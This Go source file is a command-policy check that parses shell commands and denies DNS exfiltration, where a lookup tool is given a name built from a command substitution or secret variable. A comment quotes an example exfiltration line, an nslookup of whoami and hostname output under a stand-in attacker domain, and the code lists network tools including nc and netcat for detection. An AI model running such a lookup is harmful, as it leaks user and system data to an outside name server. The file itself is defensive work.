package policy

import (
	"strings"

	"mvdan.cc/sh/v3/syntax"
)

// DNS exfiltration (polcorp7 class 5): `nslookup $(whoami).$(hostname).
// attacker.example` sends what the substitutions print to whoever runs the
// attacker's name server, as a label of the name looked up; the lookup
// itself is the upload, and no proxy sees it as one. A name whose
// substitution or expansion stands before a literal with a dot (a label of
// a fixed domain) is denied; a name chosen whole from a variable (`dig
// $HOST`, `dig api.$DOMAIN`) still asks as any lookup does.

// dnsTools resolve the names they are given.
var dnsTools = []string{"dig", "nslookup", "host", "drill", "delv", "kdig", "ping", "ping6", "traceroute", "tracepath",
	"mtr", "whois", "resolvectl", "getent", "nc", "ncat", "netcat", "telnet"}

// builtName reports a word that puts a command substitution's output, or
// a secret variable's value, into a label of a fixed domain: the
// expansion, then a literal holding a dot.
func builtName(w *syntax.Word) bool {
	dyn := false
	var walk func(parts []syntax.WordPart) bool
	walk = func(parts []syntax.WordPart) bool {
		for _, p := range parts {
			switch p := p.(type) {
			case *syntax.CmdSubst, *syntax.ArithmExp:
				dyn = true
			case *syntax.ParamExp:
				if p.Param != nil && secretValueName(p.Param.Value) {
					dyn = true
				}
			case *syntax.DblQuoted:
				if walk(p.Parts) {
					return true
				}
			case *syntax.Lit:
				if dyn && strings.Contains(strings.Trim(p.Value, "."), ".") || dyn && strings.HasPrefix(p.Value, ".") && len(p.Value) > 1 {
					return true
				}
			case *syntax.SglQuoted:
				if dyn && strings.Contains(p.Value, ".") {
					return true
				}
			}
		}
		return false
	}
	return walk(w.Parts)
}

func dnsExfil(prev handler) handler {
	return func(x *cmdCtx, args []word) {
		if x.call != nil {
			for _, w := range x.call.Args[1:] {
				if builtName(w) {
					x.add(Deny, RuleNetExfil, args[0].val+" looks up a name built from a substitution's output: the lookup sends that text to the domain's name server")
					return
				}
			}
		}
		prev(x, args)
	}
}

func addDNSHandlers(handlers map[string]handler) {
	for _, n := range dnsTools {
		if h, ok := handlers[n]; ok {
			handlers[n] = dnsExfil(h)
		}
	}
}
